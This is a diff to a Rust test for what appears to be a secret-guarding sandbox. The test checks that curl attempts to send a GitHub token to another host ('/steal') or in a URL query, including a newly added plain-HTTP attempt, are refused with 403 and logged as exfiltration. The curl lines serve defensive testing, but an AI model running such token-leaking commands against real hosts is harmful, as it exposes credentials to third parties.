@@ -351,14 +351,17 @@ curl -sS -D - -H "Authorization: Bearer $GH_TOKEN" "$1"
 curl -sS -o /dev/null -w "api-get %{http_code}\n" -H "Authorization: Bearer $GH_TOKEN" "$2"
 curl -sS -D - -X DELETE -H "Authorization: Bearer $GH_TOKEN" "$2"
 curl -sS -D - "$3?q=$GH_TOKEN"
+curl -sS -D - -H "Authorization: Bearer $GH_TOKEN" "$4"
 "#;
     let (other, api) = (w.url(OTHER, "/steal"), w.url(API, "/repos/x"));
     let q = w.url(API, "/search");
-    let o = w.run(&["sh", "-c", script, "sh", &other, &api, &q]);
+    // Plain HTTP is seen in plain text without interception: refused before any dial.
+    let plain = format!("http://{OTHER}:{}/plain", w.up.port);
+    let o = w.run(&["sh", "-c", script, "sh", &other, &api, &q, &plain]);
     let out = o.out();
     assert!(out.contains("other-plain 200"), "control: the other host answers a request without the placeholder: {o}");
     assert!(out.contains("api-get 200"), "control: the secret's host answers: {o}");
-    assert_eq!(out.matches(" 403").count(), 3, "{o}");
+    assert_eq!(out.matches(" 403").count(), 4, "{o}");
     assert!(out.contains("paddock-rule: secrets.gh"), "{o}");
     assert!(out.contains("paddock-rule: network.http[0].deny[0]"), "{o}");
     assert!(out.contains("not among its hosts"), "{o}");
@@ -367,11 +370,11 @@ curl -sS -D - "$3?q=$GH_TOKEN"
     assert!(!seen.iter().any(|s| s.host() == OTHER && s.header("authorization").is_some()), "{seen:?}");
     assert!(!seen.iter().any(|s| s.path.starts_with("/search")), "{seen:?}");
     let log = w.audit();
-    assert_eq!(log.matches(r#""event":"exfiltration""#).count(), 2, "{log}");
+    assert_eq!(log.matches(r#""event":"exfiltration""#).count(), 3, "one record per attempt: {log}");
     assert!(!log.contains(&w.value));
     // The review lists the attempts and what the secret was used for.
     let r = w.f.launch(&[w.f.bin.clone().into(), "audit".into(), "review".into()], &[], None);
-    assert!(r.out().contains("Exfiltration attempts (2):") && r.out().contains("Secrets used (1):"), "{r}");
+    assert!(r.out().contains("Exfiltration attempts (3):") && r.out().contains("Secrets used (1):"), "{r}");
 }
 
 /// Polls until `path` exists (the child's signal), for at most `HANG`.
